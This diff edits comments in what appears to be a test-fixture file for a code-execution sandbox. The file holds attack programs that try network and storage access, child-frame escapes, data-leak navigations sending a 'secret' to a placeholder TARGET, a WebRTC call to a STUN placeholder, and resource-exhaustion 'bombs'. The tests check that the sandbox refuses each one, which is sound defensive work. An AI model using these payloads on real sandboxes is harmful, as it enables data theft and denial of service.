@@ -1,6 +1,6 @@
 /**
- * Programs that attack the site from the sandbox. Each attempt prints `name: refused` or `name: ALLOWED`, so that a test
- * can report which one succeeded. `SITE`, `ELSEWHERE` and `STUN` are placeholders for the addresses of the test's servers.
+ * Programs that attack the site from inside the sandbox. Each attempt prints `name: refused` or `name: ALLOWED`, so
+ * that a test can report which attempt succeeded. Tests replace `SITE`, `ELSEWHERE` and `STUN` with server addresses.
  */
 
 const HELPERS = `
@@ -19,7 +19,7 @@ const waitFor = (target, event) => new Promise((resolve, reject) => {
 });
 `;
 
-/** Attempts to reach the network, from any kind of sandbox. */
+/** Attempts to access the network and storage, for both workers and frames. */
 const NETWORK = `
 for (const address of ['SITE', 'ELSEWHERE']) {
   await attempt('fetch ' + address, async () => (await fetch(address + 'fetch', { mode: 'no-cors' })).type);
@@ -46,7 +46,7 @@ await attempt('indexedDB', () => waitFor(indexedDB.open('x'), 'success'));
 await attempt('caches', () => caches.open('x'));
 `;
 
-/** An attack for the `js` runtime, from a worker. */
+/** An attack for the `js` runtime, which runs programs in a worker. */
 export const WORKER_ATTACK = `${HELPERS}${NETWORK}
 await attempt('importScripts', () => { importScripts('SITEscript.js'); return 'loaded'; });
 await attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
@@ -68,7 +68,7 @@ await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
 console.log('all attempted');
 `;
 
-/** Attempts to create a child frame, which would have the constructors that the sandbox has removed. */
+/** Attempts to create a child frame. It would still have the constructors that the sandbox removes. */
 const CHILDREN = `
 const SCRIPT = '<script>parent.postMessage("child ran " + typeof RTCPeerConnection, "*")</' + 'script>';
 const waitForChild = (make, root = document.body) => new Promise((resolve, reject) => {
@@ -106,18 +106,18 @@ await attempt('child after replacing DOM methods', () => waitForChild(() => {
 console.log('all attempted');
 `;
 
-/** An attack for the `html` runtime, apart from FRAME_ATTACK, because it replaces DOM methods that FRAME_ATTACK needs. */
+/** Another attack for the `html` runtime. It isn't part of FRAME_ATTACK because it breaks DOM methods used there. */
 export const CHILD_ATTACK = `<p>attack</p><iframe srcdoc="<script>parent.postMessage('static child', '*')</script>"></iframe>
 <script type="module">addEventListener('message', ({ data }) => { if (data === 'static child') console.log('static child: ALLOWED'); });
 ${HELPERS}${CHILDREN}</script>`;
 
-/** Ways for a frame to navigate away and leak data in the address. */
+/** Ways for a frame to send data to another address, usually by navigating there. */
 export const DEPARTURES = {
   'location.href': `<script>location.href = 'TARGET?secret';</script>`,
   'location.replace': `<script>location.replace('TARGET?secret');</script>`,
   'a meta refresh': `<meta http-equiv="refresh" content="0;url=TARGET?secret"><p>x</p>`,
   'a link clicked by a script': `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; HTMLElement.prototype.click.call(a);</script>`,
-  'the ping of a link': `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; a.ping = 'TARGET?ping'; HTMLElement.prototype.click.call(a);</script>`,
+  'a link with a ping attribute': `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; a.ping = 'TARGET?ping'; HTMLElement.prototype.click.call(a);</script>`,
   'a form submitted by a script': `<form action="TARGET"><input name="secret" value="1"></form><script>HTMLFormElement.prototype.submit.call(document.forms[0]);</script>`,
   'a form submitted by a button': `<form action="TARGET"><input name="secret" value="1"><button>x</button></form><script>addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.querySelector('button').click();</script>`,
   'a blob: document': `<script>location.href = URL.createObjectURL(new Blob(['<script>RTC; location.href = "TARGET?secret"</' + 'script>'], { type: 'text/html' }));</script>`,
@@ -125,10 +125,10 @@ export const DEPARTURES = {
   'a rewritten document': `<script>addEventListener('load', () => { document.open(); document.write('<iframe srcdoc="<script>RTC</' + 'script>"></iframe><script>RTC; location.href = "TARGET?secret"</' + 'script>'); document.close(); });</script>`,
 };
 
-/** An expression that sends a WebRTC request to `STUN`. */
+/** An expression that opens a WebRTC connection, which sends a packet to `STUN`. */
 export const RTC = `(async (c) => { c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })(new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }))`;
 
-/** An attack for the `html` runtime, which finally tries to navigate its own frame to another site. */
+/** An attack for the `html` runtime. At the end, it tries to navigate its own frame to another site. */
 export const FRAME_ATTACK = `<p>attack</p><script type="module">${HELPERS}${NETWORK}
 await attempt('cookie', () => document.cookie || 'readable');
 await attempt('set cookie', () => { document.cookie = 'a=b'; return 'set'; });
@@ -173,7 +173,7 @@ setTimeout(() => { location.href = 'ELSEWHEREself'; }, 200);
 export interface Bomb {
   runtime: 'js' | 'html' | 'react' | 'python' | 'sql';
   code: string;
-  /** Matches the error message or the reason why the session ends. */
+  /** Matches the program's output, the error message, or the reason why the program was stopped. */
   message: RegExp;
 }
 
@@ -188,7 +188,7 @@ const createFrameBomb = (script: string, message: RegExp): Bomb => ({
 const LOOP_MESSAGE = /did not finish within 2 s|timeout|unresponsive/;
 const FLOOD_MESSAGE = /flood|printed more than/;
 
-/** Programs that try to keep the page busy. */
+/** Programs that try to make the page unresponsive. */
 export const BOMBS = {
   'an endless loop in a worker': createWorkerBomb('for (;;);', /timeout/),
   'a flood of logs in a worker': createWorkerBomb('for (;;) console.log("flood");', /flood/),
@@ -231,10 +231,10 @@ export const BOMBS = {
   ),
 };
 
-/** The message about a process that crashed or no longer responds. */
+/** Matches the message about a process that crashed or stopped responding. */
 export const UNRESPONSIVE = /used too much memory or stopped responding|^unresponsive$/m;
 
-/** Whether the process crashes before the time limit depends on the machine. */
+/** Matches a crash or a timeout, because it depends on the machine which of them comes first. */
 const STOPPED = new RegExp(`${UNRESPONSIVE.source}|^timeout$`, 'm');
 
 const FILL_MEMORY =
